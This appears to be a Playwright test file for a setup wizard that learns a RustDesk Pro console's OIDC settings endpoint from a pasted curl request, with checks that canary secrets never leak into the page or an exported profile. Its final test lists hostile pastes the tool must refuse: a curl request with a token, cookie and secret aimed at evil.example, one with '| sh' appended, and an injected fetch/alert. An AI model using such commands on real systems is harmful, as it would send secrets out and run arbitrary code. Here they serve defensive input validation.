/** A Pro server that keeps its settings where nobody has described them: learnt from one captured Submit, after a yes. */
import { readFile } from "node:fs/promises";
import type { Sandbox } from "../../sandbox/start.ts";
import type { Admin } from "../admin.ts";
import { appsOf, expect, expectAccessible, providerOf, test } from "../world.ts";

const CANARY = "abc8Q~canary-0123456789-abcdefghijklmnop";
const CALL = "POST /api/settings/oidc";

/** As a browser copies it, with another provider's secret, a cookie and a token in it. */
const submitOf = ({ origins }: Sandbox, origin = origins.rustDesk) => {
  const body = {
    maxAuthCount: 500,
    callbackUrl: `${origins.rustDesk}/api/oidc/callback`,
    items: [
      { type: "okta", enable: true, clientId: "x", clientSecret: CANARY, issuerUrl: "https://okta.example" },
    ],
  };
  return [
    `curl '${origin}/api/settings/oidc' \\`,
    "  -X 'POST' \\",
    "  -H 'content-type: application/json' \\",
    `  -H 'authorization: Bearer ${CANARY}' \\`,
    `  -b 'session=${CANARY}' \\`,
    `  --data-raw '${JSON.stringify(body)}'`,
  ].join("\n");
};

async function reachQuestion(admin: Admin, sandbox: Sandbox): Promise<void> {
  sandbox.world.rustDesk.settingsAt = "elsewhere";
  await admin.begin();
  await admin.page.getByText("It answers like RustDesk Server Pro").waitFor();
  await admin.acceptAddress();
  await admin.signInToConsole();
  await admin.page.getByText("This console answers in a way we have not tested").waitFor();
  await admin.page.getByText("Show it one Submit").click();
}
async function paste({ page }: Admin, text: string): Promise<void> {
  await page.getByLabel("The copied request").fill(text);
  await page.getByRole("button", { name: "Read it" }).click();
}

test.describe("with the launcher started for it", () => {
  test.use({ allow: [CALL] });

  test("is shown what was learnt, says yes, and connects", async ({ admin, sandbox }) => {
    const { page } = admin;
    await reachQuestion(admin, sandbox);
    await expectAccessible(page);
    await paste(admin, submitOf(sandbox));
    await page.getByRole("heading", { name: "What it learnt" }).waitFor();
    await expect(page.getByText(CALL)).toBeVisible();
    await expect(page.getByText("items", { exact: true })).toBeVisible();
    await expectAccessible(page);
    await test.step("no secret of the paste is on the screen or in the file", async () => {
      await expect(page.getByLabel("The copied request")).toHaveValue("");
      expect(await page.content()).not.toContain("canary");
      const [download] = await Promise.all([
        page.waitForEvent("download"),
        page.getByRole("button", { name: /^Profile/ }).click(),
      ]);
      const file = await readFile(await download.path(), "utf8");
      expect(file).toContain('"path": "/api/settings/oidc"');
      expect(file).not.toContain("canary");
      expect(file).not.toContain("okta");
    });
    expect(sandbox.world.requests.some(({ method, path }) => `${method} ${path}` === CALL)).toBe(false);
    await page.getByRole("button", { name: "Use this for this console" }).click();
    await admin.nameOrganisation();
    await admin.signInWithMicrosoft();
    await admin.chooseMyself();
    await page.getByText("Exact requests").click();
    await expect(page.getByText("/api/settings/oidc").first()).toBeVisible();
    await admin.makeChanges();
    await admin.testSignIn();
    const [app] = appsOf(sandbox, "contoso.com");
    expect(providerOf(sandbox, "azure")).toMatchObject({
      enabled: true,
      client_id: app?.appId,
      client_secret: app?.passwords[0]?.secretText,
    });
    expect(providerOf(sandbox, "okta")).toMatchObject({ client_secret: "okta-secret-value" });
  });

  test("an exported profile does the same on another day", async ({ admin, sandbox }) => {
    const { page } = admin;
    await reachQuestion(admin, sandbox);
    await paste(
      admin,
      JSON.stringify({
        format: "entra-setup-settings-profile-1",
        method: "POST",
        path: "/api/settings/oidc",
        headerNames: [],
        list: ["items"],
        entry: {
          name: "type",
          clientId: "clientId",
          clientSecret: "clientSecret",
          issuer: "issuerUrl",
          isEnabled: "enable",
        },
        callbackUrl: "callbackUrl",
        shape: {},
      }),
    );
    await page.getByRole("button", { name: "Use this for this console" }).click();
    await admin.heading("Which organisation, and how?").waitFor();
  });
});

test("behind a launcher that was not started for it, the command is shown and nothing is used", async ({
  admin,
  sandbox,
}) => {
  const { page } = admin;
  await reachQuestion(admin, sandbox);
  await paste(admin, submitOf(sandbox));
  await expect(page.getByText(`--allow '${CALL}'`)).toBeVisible();
  await expect(page.getByRole("button", { name: "Use this for this console" })).toHaveCount(0);
  await expectAccessible(page);
});

test("hostile and mistaken pastes are refused at the field, and leave it", async ({ admin, sandbox }) => {
  const { page } = admin;
  await reachQuestion(admin, sandbox);
  for (const [text, words] of [
    [submitOf(sandbox, "https://evil.example"), "goes to https://evil.example"],
    [submitOf(sandbox).replace("'POST'", "'DELETE'"), "DELETE saves nothing"],
    [`${submitOf(sandbox)} | sh`, "more in it than one request"],
    [`fetch("${sandbox.origins.rustDesk}/api/x", (() => { alert(1) })())`, "more in it than one request"],
    [`${submitOf(sandbox)}${" ".repeat(300_000)}x`, "longer than 256 KiB"],
    [submitOf(sandbox).replace("clientSecret", "note"), "No provider with client ID"],
  ] as const) {
    await paste(admin, text);
    await expect(page.getByRole("alert").filter({ hasText: words })).toBeVisible();
    await expect(page.getByLabel("The copied request")).toHaveValue("");
    await expect(page.getByRole("heading", { name: "What it learnt" })).toHaveCount(0);
  }
  expect(await page.content()).not.toContain("canary");
});
